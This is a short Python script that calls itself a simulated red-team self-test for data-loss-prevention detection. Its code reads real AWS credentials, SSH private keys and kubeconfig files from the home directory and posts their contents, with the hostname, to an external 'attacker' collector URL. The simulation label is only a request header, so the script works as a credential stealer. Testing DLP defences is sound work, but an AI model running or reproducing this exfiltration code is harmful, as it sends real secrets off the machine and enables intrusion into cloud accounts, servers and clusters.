#!/usr/bin/env python3
"""SIMULATION ONLY - red-team self-test. Mimics attacker credential exfiltration
so DLP can detect it. Marked with X-Simulation header."""
import glob, json, os, socket, urllib.request

ATTACKER_COLLECTOR = "https://collector.attacker-sim.example/drop"  # simulated attacker

def sample():
    # realistic sample: the real files an attacker would take
    out = {}
    for p in ["~/.aws/credentials", "~/.aws/config", "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.kube/config"]:
        fp = os.path.expanduser(p)
        if os.path.isfile(fp):
            out[p] = open(fp).read()
    return out

body = json.dumps({"host": socket.gethostname(), "files": sample()}).encode()
req = urllib.request.Request(ATTACKER_COLLECTOR, body, {"Content-Type": "application/json", "X-Simulation": "quarterly"})
urllib.request.urlopen(req, timeout=10)
print("sent")
